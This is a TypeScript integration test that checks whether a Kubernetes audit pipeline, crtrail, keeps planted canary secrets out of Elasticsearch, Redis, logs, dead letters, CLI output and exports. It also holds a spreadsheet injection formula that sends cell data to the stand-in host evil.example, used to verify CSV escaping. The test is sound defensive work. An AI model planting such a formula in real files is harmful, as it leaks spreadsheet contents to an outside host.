import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { randomBytes } from 'node:crypto';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Writable } from 'node:stream';
import { parse as parseCsv } from 'csv-parse/sync';
import { pino } from 'pino';
import { testEsUrl, testRedisUrl, uniquePrefix } from '@crtrail/testkit';
import { indexNames } from '@crtrail/store';
import { startPipeline, type Pipeline } from './helpers/pipeline.js';
import { eventList } from './helpers/events.js';
import { runCli } from './helpers/cli.js';
import type { LooseJson, StoredDoc } from './helpers/loose.js';

/*
 * Canaries (unique random words, one per shape a secret can take in an audit event) go through the
 * real webhook, worker, Redis and Elasticsearch; then every place crtrail writes to is searched for
 * them. Alphanumeric only, so Elasticsearch's analyzer keeps each one a single searchable token.
 */
const canaries = new Map<string, string>();
const C = (label: string): string => {
  const v = `cnry${randomBytes(8).toString('hex')}`;
  canaries.set(label, v);
  return v;
};
/** Not secret: proves that each search below does find what is there. */
const CONTROL = `ctrl${randomBytes(8).toString('hex')}`;
const FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
const LA = 'kubectl.kubernetes.io/last-applied-configuration';

const CLUSTER = 'sec';
const VS_REF = { apiGroup: 'vault.example.com', apiVersion: 'v1', resource: 'vaultsecrets', namespace: 'app' };
const DB_REF = { apiGroup: 'db.example.com', apiVersion: 'v1', resource: 'databases', namespace: 'app' };
const CRED_REF = { apiGroup: 'vault.example.com', apiVersion: 'v1', resource: 'creds', namespace: 'app' };

let seq = 0;
function event(verb: string, objectRef: Record<string, unknown>, fields: Record<string, unknown>) {
  seq++;
  const path = `/apis/${objectRef.apiGroup}/v1/${objectRef.namespace ? `namespaces/${objectRef.namespace}/` : ''}${objectRef.resource}${objectRef.name ? `/${objectRef.name}` : ''}`;
  return {
    level: 'RequestResponse',
    auditID: `sec-${seq}`,
    stage: 'ResponseComplete',
    requestURI: path,
    verb,
    user: { username: 'alice@example.com' },
    userAgent: 'kubectl/v1.30.0',
    objectRef,
    responseStatus: { code: 200 },
    requestReceivedTimestamp: `2026-11-03T10:00:${String(seq).padStart(2, '0')}.000000Z`,
    stageTimestamp: `2026-11-03T10:00:${String(seq).padStart(2, '0')}.100000Z`,
    ...fields,
  };
}

function vaultSecret(name: string, rv: number, data: Record<string, string>, extra: Record<string, unknown> = {}) {
  const { annotations, ...rest } = extra as { annotations?: Record<string, string> };
  return {
    apiVersion: 'vault.example.com/v1',
    kind: 'VaultSecret',
    metadata: {
      name,
      namespace: 'app',
      uid: `uid-${name}`,
      resourceVersion: String(rv),
      ...(annotations ? { annotations } : {}),
    },
    spec: { engine: CONTROL },
    data,
    ...rest,
  };
}
/** What client-side `kubectl apply` stores: the applied object as a JSON string (with its newline). */
const lastApplied = (o: Record<string, unknown>): string => `${JSON.stringify(o)}\n`;
const applied = (name: string, data: Record<string, string>) =>
  lastApplied({ apiVersion: 'vault.example.com/v1', kind: 'VaultSecret', metadata: { name, namespace: 'app' }, data });
const status = (code: number, reason: string, message: string) => ({
  kind: 'Status',
  apiVersion: 'v1',
  metadata: {},
  status: 'Failure',
  reason,
  code,
  message,
});

function database(rv: number, password: string, extra: Record<string, unknown> = {}) {
  return {
    apiVersion: 'db.example.com/v1',
    kind: 'Database',
    metadata: { name: 'orders', namespace: 'app', uid: 'uid-db', resourceVersion: String(rv), ...extra },
    spec: { engine: 'postgres', note: FORMULA, auth: { user: 'app', password } },
  };
}

/** Batches in order: each one is acked and processed before the next, like an apiserver's stream. */
function batches(): unknown[][] {
  const crd = {
    apiVersion: 'apiextensions.k8s.io/v1',
    kind: 'CustomResourceDefinition',
    metadata: { name: 'creds.vault.example.com', uid: 'uid-crd', resourceVersion: '5' },
    spec: {
      group: 'vault.example.com',
      scope: 'Namespaced',
      names: { plural: 'creds', singular: 'cred', kind: 'ServiceSecret', listKind: 'ServiceSecretList' },
      versions: [{ name: 'v1', served: true, storage: true }],
    },
  };
  const s1 = C('create-data');
  const s1b = C('create-stringData');
  const s2 = C('update');
  const s3 = C('json-patch');
  const s3b = C('json-patch-data-object');
  const s4 = C('merge-patch');
  const s5 = C('apply-201');
  const s6 = C('apply-200');
  const s7 = C('request-level-no-kind');
  const s8 = C('conflict-409');
  const s9 = C('invalid-422');
  const s10 = C('last-applied-unparseable');
  const s11 = C('deletecollection');
  const s12 = C('db-create');
  const s13 = C('db-update');
  const s14 = C('db-last-applied');
  const s15 = C('crd-taught-merge');
  const s16 = C('crd-taught-json-patch');
  const s17 = C('dead-letter');
  const s18 = C('baseline');
  const one = { ...VS_REF, name: 'one' };
  const first = vaultSecret(
    'one',
    10,
    { password: s1, user: 'app' },
    { stringData: { token: s1b }, annotations: { [LA]: applied('one', { password: s1, user: 'app' }) } },
  );
  const rotated = vaultSecret(
    'one',
    11,
    { password: s2, user: 'app' },
    { annotations: { [LA]: applied('one', { password: s2, user: 'app' }) } },
  );
  const third = vaultSecret(
    'one',
    12,
    { password: s2, user: 'app', apikey: s3 },
    { annotations: { [LA]: applied('one', { password: s2, user: 'app', apikey: s3 }) } },
  );
  const fourth = vaultSecret(
    'one',
    13,
    { password: s4, user: 'app', apikey: s3 },
    { annotations: { [LA]: applied('one', { password: s2, user: 'app', apikey: s3 }) } },
  );
  const ssa = (rv: number, token: string) => {
    const o = vaultSecret('flux', rv, { token });
    return {
      ...o,
      metadata: {
        ...o.metadata,
        managedFields: [
          { manager: 'flux', operation: 'Apply', apiVersion: 'vault.example.com/v1', time: '2026-11-03T10:00:00Z' },
        ],
      },
    };
  };
  const flux = { ...VS_REF, name: 'flux' };
  const ssaRequest = (token: string) => ({
    apiVersion: 'vault.example.com/v1',
    kind: 'VaultSecret',
    metadata: { name: 'flux', namespace: 'app' },
    data: { token },
  });
  return [
    [
      // A Secret-like kind, created and updated with client-side apply (the annotation repeats the secret).
      event(
        'create',
        { ...VS_REF, name: 'one' },
        { requestObject: first, responseObject: first, responseStatus: { code: 201 } },
      ),
      // A mutating webhook's JSON Patch is logged in the event's annotations.
      event('update', one, {
        requestObject: rotated,
        responseObject: rotated,
        annotations: {
          'patch.webhook.admission.k8s.io/round_0_index_0': JSON.stringify({
            configuration: 'injector',
            webhook: 'inject.example.com',
            patch: [{ op: 'add', path: '/data/injected', value: C('admission-patch') }],
            patchType: 'JSONPatch',
          }),
        },
      }),
      // JSON Patch: a new key, a whole map, the annotation by its escaped path.
      event('patch', one, {
        requestObject: [
          { op: 'add', path: '/data/apikey', value: s3 },
          {
            op: 'replace',
            path: `/metadata/annotations/${LA.replace('/', '~1')}`,
            value: third.metadata.annotations![LA],
          },
        ],
        responseObject: third,
      }),
      event(
        'patch',
        { ...VS_REF, name: 'other' },
        {
          requestObject: [{ op: 'add', path: '/data', value: { apikey: s3b } }],
          responseObject: vaultSecret('other', 20, { apikey: s3b }),
        },
      ),
      event('patch', one, { requestObject: { data: { password: s4 } }, responseObject: fourth }),
      // Server-side apply: creates (201), then changes (200).
      event('patch', flux, {
        requestURI: '/apis/vault.example.com/v1/namespaces/app/vaultsecrets/flux?fieldManager=flux&force=true',
        requestObject: ssaRequest(s5),
        responseObject: ssa(30, s5),
        responseStatus: { code: 201 },
      }),
      event('patch', flux, {
        requestURI: '/apis/vault.example.com/v1/namespaces/app/vaultsecrets/flux?fieldManager=flux&force=true',
        requestObject: ssaRequest(s6),
        responseObject: ssa(31, s6),
      }),
      // Level Request: a merge patch names no kind, and there is no response.
      event('patch', one, { level: 'Request', requestObject: { data: { password: s7 } }, responseObject: undefined }),
      // Refused writes answer a Status; a 422 quotes the value it refused.
      event('update', one, {
        requestObject: vaultSecret('one', 13, { password: s8, user: 'app' }),
        responseObject: status(409, 'Conflict', 'the object has been modified'),
        responseStatus: { code: 409 },
      }),
      event(
        'create',
        { ...VS_REF, name: 'bad' },
        {
          requestObject: vaultSecret('bad', 0, { password: s9 }),
          responseObject: status(
            422,
            'Invalid',
            `VaultSecret.vault.example.com "bad" is invalid: data.password: Invalid value: "${s9}": must be base64`,
          ),
          responseStatus: { code: 422 },
        },
      ),
      // An annotation that does not parse.
      event(
        'update',
        { ...VS_REF, name: 'broken' },
        {
          requestObject: vaultSecret(
            'broken',
            40,
            { password: s10 },
            { annotations: { [LA]: `{"data":{"password":"${s10}"` } },
          ),
          responseObject: vaultSecret(
            'broken',
            40,
            { password: s10 },
            { annotations: { [LA]: `{"data":{"password":"${s10}"` } },
          ),
        },
      ),
    ],
    [
      event(
        'deletecollection',
        { ...VS_REF },
        {
          requestObject: { kind: 'DeleteOptions', apiVersion: 'meta.k8s.io/v1' },
          responseObject: {
            apiVersion: 'vault.example.com/v1',
            kind: 'VaultSecretList',
            metadata: {},
            items: [
              vaultSecret(
                'gone-a',
                50,
                { password: s11 },
                { annotations: { [LA]: applied('gone-a', { password: s11 }) } },
              ),
              vaultSecret('gone-b', 51, { password: `${s11}b` }),
            ],
          },
        },
      ),
      // A configured path of a kind that is not Secret-like.
      event(
        'create',
        { ...DB_REF, name: 'orders' },
        { requestObject: database(60, s12), responseObject: database(60, s12), responseStatus: { code: 201 } },
      ),
      event(
        'update',
        { ...DB_REF, name: 'orders' },
        {
          requestObject: database(61, s13, {
            annotations: {
              [LA]: lastApplied({
                apiVersion: 'db.example.com/v1',
                kind: 'Database',
                spec: { auth: { password: s14 } },
              }),
            },
          }),
          responseObject: database(61, s13, {
            annotations: {
              [LA]: lastApplied({
                apiVersion: 'db.example.com/v1',
                kind: 'Database',
                spec: { auth: { password: s14 } },
              }),
            },
          }),
        },
      ),
      // A CRD teaches a kind whose plural (`creds`) says nothing...
      event(
        'create',
        {
          apiGroup: 'apiextensions.k8s.io',
          apiVersion: 'v1',
          resource: 'customresourcedefinitions',
          name: crd.metadata.name,
        },
        { requestObject: crd, responseObject: crd, responseStatus: { code: 201 } },
      ),
    ],
    [
      // ...so the Request-level writes of that resource, which name no kind, are redacted.
      event(
        'patch',
        { ...CRED_REF, name: 'c1' },
        { level: 'Request', requestObject: { data: { token: s15 } }, responseObject: undefined },
      ),
      event(
        'patch',
        { ...CRED_REF, name: 'c1' },
        {
          level: 'Request',
          requestObject: [{ op: 'add', path: '/data/other', value: s16 }],
          responseObject: undefined,
        },
      ),
      // The object imported by `crtrail baseline`, changed: its old value comes from the state store.
      event(
        'update',
        { ...VS_REF, name: 'base' },
        {
          requestObject: vaultSecret('base', 71, { password: `${s18}new` }),
          responseObject: vaultSecret('base', 71, { password: `${s18}new` }),
        },
      ),
    ],
    [
      // Elasticsearch refuses this record (a uid the test's stricter mapping types as a number: a bad
      // timestamp would be a 400 at the webhook already): its dead letter must be redacted too.
      {
        ...event('update', one, {
          requestObject: vaultSecret('one', 14, { password: s17 }),
          responseObject: vaultSecret('one', 14, { password: s17 }),
        }),
        impersonatedUser: { username: 'bob', uid: 'not-a-number' },
      },
    ],
  ];
}

async function redisDump(p: Pipeline): Promise<Map<string, string>> {
  const out = new Map<string, string>();
  for (const pattern of [`bull:${p.prefix}-*`, `${p.prefix}:*`]) {
    let cursor = '0';
    do {
      const [next, keys] = await p.redis.scan(cursor, 'MATCH', pattern, 'COUNT', 1000);
      cursor = next;
      for (const key of keys) {
        const type = await p.redis.type(key);
        const value =
          type === 'string'
            ? await p.redis.get(key)
            : type === 'list'
              ? await p.redis.lrange(key, 0, -1)
              : type === 'hash'
                ? await p.redis.hgetall(key)
                : type === 'zset'
                  ? await p.redis.zrange(key, 0, -1, 'WITHSCORES')
                  : type === 'set'
                    ? await p.redis.smembers(key)
                    : type === 'stream'
                      ? await p.redis.xrange(key, '-', '+')
                      : `unknown type ${type}`;
        out.set(key, JSON.stringify(value));
      }
    } while (cursor !== '0');
  }
  return out;
}

function assertNowhere(where: string, text: string): void {
  for (const [label, value] of canaries) assert.ok(!text.includes(value), `the ${label} canary is in ${where}`);
}

describe('no secret is ever stored: canaries in every shape, searched for everywhere', () => {
  let p: Pipeline;
  let dir: string;
  let env: Record<string, string>;
  const logs: string[] = [];
  before(async () => {
    dir = mkdtempSync(join(tmpdir(), 'crtrail-secrets-'));
    const config = join(dir, 'crtrail.yaml');
    writeFileSync(
      config,
      'redaction:\n  paths:\n    - group: db.example.com\n      kind: Database\n      paths: [spec.auth.password]\n',
    );
    const sink = new Writable({
      write(chunk, _enc, cb) {
        logs.push(String(chunk));
        cb();
      },
    });
    p = await startPipeline(uniquePrefix('secrets'), {
      env: { CRTRAIL_CONFIG: config, CRTRAIL_LOG_LEVEL: 'debug' },
      log: pino({ level: 'debug' }, sink),
    });
    env = {
      CRTRAIL_INDEX_PREFIX: p.prefix,
      CRTRAIL_ES_URL: testEsUrl(),
      CRTRAIL_REDIS_URL: testRedisUrl(),
      CRTRAIL_CONFIG: config,
      NO_COLOR: '1',
      CRTRAIL_LOG_LEVEL: 'warn',
    };
  });
  after(async () => {
    await p?.close();
    if (dir) rmSync(dir, { recursive: true, force: true });
  });

  test('a pipeline run with every shape leaves no canary in Elasticsearch, Redis, logs, dead letters, CLI output or exports', async () => {
    const all = batches();
    await p.es.indices.putMapping({
      index: indexNames(p.prefix).pattern,
      properties: {
        kubernetes: {
          properties: { audit: { properties: { impersonatedUser: { properties: { uid: { type: 'long' } } } } } },
        },
      },
    });
    // The baseline import (before the change to that object) goes through the CLI, as a user does it.
    const base = await runCli(
      ['baseline', '-', '--cluster', CLUSTER],
      env,
      JSON.stringify({ kind: 'List', items: [vaultSecret('base', 70, { password: canaries.get('baseline')! })] }),
    );
    assert.equal(base.code, 0, base.stderr);
    for (const batch of all) {
      const res = await fetch(`${p.url}/audit/${CLUSTER}`, {
        method: 'POST',
        headers: { 'content-type': 'application/json' },
        body: eventList(batch),
      });
      assert.equal(res.status, 200, await res.text());
      await p.idle();
    }

    // Elasticsearch: every document of every index of the prefix, whole, and a full-text search per canary.
    await p.es.indices.refresh({ index: `${p.prefix}-*` });
    const docs = await p.es.search({ index: `${p.prefix}-*`, size: 1000, query: { match_all: {} } });
    const sources = JSON.stringify(docs.hits.hits.map((h) => h._source));
    assert.ok(docs.hits.hits.length >= 18, `records made: ${docs.hits.hits.length}`);
    assert.ok(sources.includes(CONTROL));
    assertNowhere('Elasticsearch _source', sources);
    const found = async (q: string): Promise<number> => {
      const res = await p.es.search({ index: `${p.prefix}-*`, q, size: 0, track_total_hits: true });
      return typeof res.hits.total === 'number' ? res.hits.total : (res.hits.total?.value ?? 0);
    };
    assert.ok((await found(CONTROL)) > 0, 'the query_string search finds a planted word');
    for (const [label, value] of canaries) assert.equal(await found(value), 0, `q=${label} canary`);

    // Redis: every key of the prefix, by type: queue jobs (their data), histories, kinds, dead letters.
    const dump = await redisDump(p);
    const redisText = [...dump].map(([k, v]) => `${k} ${v}`).join('\n');
    assert.ok(redisText.includes(CONTROL), 'job data and histories are in the dump');
    assert.ok(dump.has(`${p.prefix}:dlq`), 'the refused record is dead-lettered');
    assert.ok(
      [...dump.keys()].some((k) => k.startsWith(`${p.prefix}:state:`)),
      'histories are in the dump',
    );
    assertNowhere('Redis', redisText);
    const kinds = await p.redis.hgetall(`${p.prefix}:kinds`);
    assert.equal(kinds['vault.example.com/creds'], 'ServiceSecret', 'the CRD taught its kind to the shared table');
    assert.equal(kinds['vault.example.com/vaultsecrets'], 'VaultSecret');

    // Logs of webhook and worker at debug level.
    assert.ok(logs.length > 0);
    assertNowhere('the logs', logs.join(''));

    // The CLI: `changes` and both export formats (with their manifests).
    const changes = await runCli(['changes', '--cluster', CLUSTER, '--limit', '1000'], env);
    assert.equal(changes.code, 0, changes.stderr);
    assert.ok(changes.stdout.includes(CONTROL));
    assertNowhere('`crtrail changes`', changes.stdout);
    const json = await runCli(['changes', '--cluster', CLUSTER, '--limit', '1000', '--json'], env);
    assertNowhere('`crtrail changes --json`', json.stdout);
    for (const format of ['ndjson', 'csv']) {
      const out = join(dir, `export.${format}`);
      const run = await runCli(
        [
          'export',
          '--since',
          '2026-01-01T00:00:00Z',
          '--until',
          'now',
          '--cluster',
          CLUSTER,
          '--format',
          format,
          '--out',
          out,
        ],
        env,
      );
      assert.equal(run.code, 0, run.stderr);
      const text = readFileSync(out, 'utf8');
      assert.ok(text.includes(CONTROL), `${format} export holds the records`);
      assertNowhere(`the ${format} export`, text + readFileSync(`${out}.manifest.json`, 'utf8'));
    }

    // Keys stay visible and changes stay detectable: the update of `one` rotated data.password.
    const update = (docs.hits.hits as StoredDoc[]).find((h) => h._source.event?.id === 'sec-2')!;
    const op = update._source.crtrail.change.ops.find((o: LooseJson) => o.path === '/data/password');
    assert.ok(op, `ops: ${JSON.stringify(update._source.crtrail.change.paths)}`);
    assert.match(op.old, /^sha256:[0-9a-f]{64}$/);
    assert.match(op.new, /^sha256:[0-9a-f]{64}$/);
    assert.notEqual(op.old, op.new, 'a changed secret is a changed hash');
    assert.ok(
      !update._source.crtrail.change.paths.includes('/data/user'),
      'an unchanged value hashes the same: no change',
    );
    // The field lines under the header of the update of app/one.
    const lines = changes.stdout.split('\n');
    const head = lines.findIndex((l) => / {2}update {2}vault\.example\.com\/vaultsecrets {2}app\/one {2}/.test(l));
    assert.ok(head >= 0, changes.stdout);
    const block = lines.slice(head + 1, head + 1 + lines.slice(head + 1).findIndex((l) => !l.startsWith('    ')));
    const shortLine = block.find((l) => l.includes(' /data/password:'));
    assert.match(
      shortLine ?? '',
      /\/data\/password: sha256:[0-9a-f]{8}… → sha256:[0-9a-f]{8}…$/,
      'hashes are shortened on screen',
    );
    // The baseline's old value is a hash too, compared with the new one's.
    const baseUpdate = (docs.hits.hits as StoredDoc[]).find((h) => h._source.event?.id === 'sec-18')!;
    const baseOp = baseUpdate._source.crtrail.change.ops.find((o: LooseJson) => o.path === '/data/password');
    assert.equal(baseUpdate._source.crtrail.change.baseline, 'known');
    assert.match(baseOp.old, /^sha256:/);
    assert.notEqual(baseOp.old, baseOp.new);
    // The JSON Patch that added a key names it.
    const patch = (docs.hits.hits as StoredDoc[]).find((h) => h._source.event?.id === 'sec-3')!;
    assert.ok(patch._source.crtrail.change.paths.includes('/data/apikey'));

    // A spreadsheet would run this as a formula: the CSV cell is escaped, the NDJSON keeps the value.
    const rows = parseCsv(readFileSync(join(dir, 'export.csv'), 'utf8'), { columns: true }) as Array<
      Record<string, string>
    >;
    const note = rows.find((r) => r.path === '/spec/note');
    assert.equal(note?.new, `'${FORMULA}`);
    assert.ok(rows.every((r) => !/^[=+\-@\t\r]/.test(r.old ?? '') && !/^[=+\-@\t\r]/.test(r.new ?? '')));
    assert.ok(readFileSync(join(dir, 'export.ndjson'), 'utf8').includes(JSON.stringify(FORMULA).slice(1, -1)));
  });
});
